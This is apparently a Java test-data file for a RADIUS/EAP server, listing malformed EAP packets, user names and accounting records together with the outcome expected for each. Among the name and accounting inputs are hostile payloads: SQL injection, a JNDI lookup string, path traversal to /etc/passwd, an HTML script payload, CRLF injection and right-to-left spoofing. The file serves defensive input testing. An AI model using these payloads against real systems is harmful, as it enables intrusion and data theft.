package io.flexaaa.server.transport;

import static io.flexaaa.server.transport.BadInput.dropped;
import static io.flexaaa.server.transport.BadInput.notAccepted;
import static io.flexaaa.server.transport.BadInput.recorded;
import static io.flexaaa.server.transport.BadInput.rejected;
import static io.flexaaa.server.transport.BadPackets.attr;
import static io.flexaaa.server.transport.BadPackets.hex;
import static io.flexaaa.server.transport.BadPackets.join;
import static io.flexaaa.server.transport.BadPackets.report;
import static io.flexaaa.server.transport.BadPackets.u32;

import io.flexaaa.server.transport.BadInput.Outcome;
import io.flexaaa.server.transport.BadInput.Where;

import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.function.Function;

/** Groups E (State and EAP), F (names) and G (accounting), as far as one packet shows them. */
final class BadInputContents {

    private static final int STATE = 24;
    private static final String IDENTITY = "eve";

    private final List<BadInput> rows = new ArrayList<>();

    private BadInputContents() {}

    static List<BadInput> rows() {
        BadInputContents all = new BadInputContents();
        all.eap();
        all.names();
        all.accounting();
        return all.rows;
    }

    private void eap() {
        byte[] md5 = eapMessage(2, 1, "04" + "10" + "00".repeat(16));
        byte[] identity = eapMessage(2, 1, "01" + "657665");
        eap("E01", "forged State", md5, attr(STATE, new byte[16]));
        eap("E02", "State without octets", md5, attr(STATE));
        eap("E03", "State of 253 octets", md5, attr(STATE, new byte[253]));
        eap("E04", "two States", md5, attr(STATE, new byte[8]), attr(STATE, new byte[8]));
        eap("E05", "answer without State", md5);
        eap("E06", "EAP length too big", hex("0201ffff01657665"));
        eap("E07", "EAP length too small", hex("0201000301657665"));
        eap("E08", "EAP length 4, no type", hex("02010004"));
        eap("E09", "the peer sends a Request", eapMessage(1, 1, "01657665"));
        eap("E10", "the peer sends Success", hex("03010004"));
        eap("E11", "the peer sends Failure", hex("04010004"));
        eap("E12", "EAP code 0", hex("0001000501"));
        eap("E13", "EAP code 99", hex("6301000501"));
        eap("E14", "Nak first", eapMessage(2, 1, "030d"));
        eap("E15", "EAP-Message without octets", BadPackets.nothing());
        eap("E16", "one octet", hex("02"));
        row(
                "E17",
                "identity in four pieces",
                Where.AUTH,
                p ->
                        p.access(
                                attr(1, IDENTITY),
                                attr(79, hex("0201")),
                                attr(79, hex("0008")),
                                attr(79, hex("0165")),
                                attr(79, hex("7665"))),
                notAccepted());
        row(
                "E18",
                "identity is not User-Name",
                Where.AUTH,
                p -> p.eap("mallory", identity),
                notAccepted());
        eap("E19", "EAP-TLS length 2^31-1", eapMessage(2, 2, "0d80" + "7fffffff" + "16"));
        eap("E20", "EAP-TLS length 0", eapMessage(2, 2, "0d80" + "00000000"));
        eap("E21", "EAP-TLS length below the data", eapMessage(2, 2, "0d80" + "00000001" + "1603"));
        eap("E22", "EAP-TLS without flags", eapMessage(2, 2, "0d"));
        eap("E23", "a hello of noise", eapMessage(2, 2, "0d00" + "fe".repeat(200)));
        eap("E24", "bare PEAP acknowledgement", eapMessage(2, 2, "1900"));
        eap("E25", "MSCHAPv2 of unknown operation", eapMessage(2, 2, "1a" + "7f010009" + "00"));
        eap("E26", "MSCHAPv2 size past the end", eapMessage(2, 2, "1a" + "0201ffff" + "31"));
        eap("E27", "MD5 value size past the end", eapMessage(2, 2, "04" + "ff" + "00"));
        eap("E28", "expanded type cut short", eapMessage(2, 2, "fe0000"));
    }

    private void eap(String id, String what, byte[] message, byte[]... more) {
        row(id, what, Where.AUTH, p -> p.eap(IDENTITY, message, more), notAccepted());
    }

    private static byte[] eapMessage(int code, int identifier, String contents) {
        byte[] rest = hex(contents);
        int length = rest.length + 4;
        return join(
                new byte[] {(byte) code, (byte) identifier, (byte) (length >> 8), (byte) length},
                rest);
    }

    private void names() {
        name("F01", "SQL", "x'; drop table peer; --");
        name("F02", "NUL", hex("610062"));
        name("F03", "no UTF-8", hex("ff fe 61".replace(" ", "")));
        name("F04", "overlong UTF-8", hex("c0af"));
        name("F05", "CESU-8", hex("eda0bdedb880"));
        name("F06", "expansion", "%{expr:1+1}");
        name("F07", "look-up string", "${jndi:ldap://192.0.2.1/a}");
        name("F08", "lines", "a\r\nadmin accepted");
        name("F09", "terminal escapes", "\u001b[31mred\u001b[0m");
        name("F10", "253 octets", "n".repeat(253));
        name("F11", "path", "../../../etc/passwd");
        name("F12", "two realms", "a@b@c");
        name("F13", "250 @", "@".repeat(250));
        name("F14", "blanks", "   ");
        name("F15", "right-to-left", "a\u202egnp.exe");
        name("F16", "HTML", "<img src=x onerror=alert(1)>");
        name("F17", "quoted-printable", "a=3Db");
        name("F18", "lone %", "100%");
    }

    private void name(String id, String what, String name) {
        name(id, what, name.getBytes(StandardCharsets.UTF_8));
    }

    private void name(String id, String what, byte[] name) {
        row(
                id,
                what,
                Where.AUTH,
                p -> {
                    byte[] authenticator = p.authenticator();
                    return p.signed(1, authenticator, p.lookUpBody(authenticator, attr(1, name)));
                },
                rejected("unknown-peer"));
    }

    private void accounting() {
        acct("G01", "no Acct-Status-Type", dropped("acct-no-status"), attr(44, "G01"));
        acct("G02", "no Acct-Session-Id", dropped("acct-no-session-id"), u32(40, 1));
        acct("G03", "status 99", dropped("acct-unknown-status"), report(99, "G03"));
        acct("G04", "Stop without Start", recorded(), report(2, "G04", attr(1, "g04")));
        acct("G05", "SQL in the id", recorded(), report(1, "'); drop table peer; --"));
        acct("G06", "id of 253 octets", recorded(), report(1, "i".repeat(253)));
        acct("G07", "NUL in the name", recorded(), report(1, "G07", attr(1, hex("610062"))));
        acct("G08", "all counters at their limit", recorded(), report(2, "G08", limits()));
        acct("G09", "Event-Timestamp 1970", recorded(), report(1, "G09", u32(55, 0)));
        acct("G10", "Event-Timestamp 2106", recorded(), report(1, "G10", u32(55, 0xffffffffL)));
        acct("G11", "two Acct-Session-Ids", recorded(), report(1, "G11", attr(44, "other")));
        acct("G12", "status of 3 octets", dropped("acct-no-status"), attr(40, hex("000001")));
        acct("G14", "Accounting-On without session", recorded(), u32(40, 7));
        byte[] prefix = attr(97, hex("0040" + "20010db8" + "00".repeat(12)));
        acct("G15", "two Framed-IPv6-Prefixes", recorded(), report(1, "G15p", prefix, prefix));
        byte[] tooLong = attr(97, hex("0081" + "20010db8" + "00".repeat(12)));
        acct("G16", "a prefix of 129 bits", recorded(), report(1, "G16p", tooLong));
        acct("G13", "empty Acct-Session-Id", dropped("acct-no-session-id"), report(1, ""));
    }

    private static byte[] limits() {
        long most = 0xffffffffL;
        return join(
                attr(1, "g08"),
                u32(42, most),
                u32(52, most),
                u32(43, most),
                u32(53, most),
                u32(46, most),
                u32(47, most),
                u32(41, most));
    }

    private void acct(String id, String what, Outcome outcome, byte[] attributes) {
        row(id, what, Where.ACCT, p -> p.accounting(attributes), outcome);
    }

    private void row(
            String id, String what, Where where, Function<BadPackets, byte[]> p, Outcome outcome) {
        rows.add(new BadInput(id, what, where, p, outcome));
    }
}
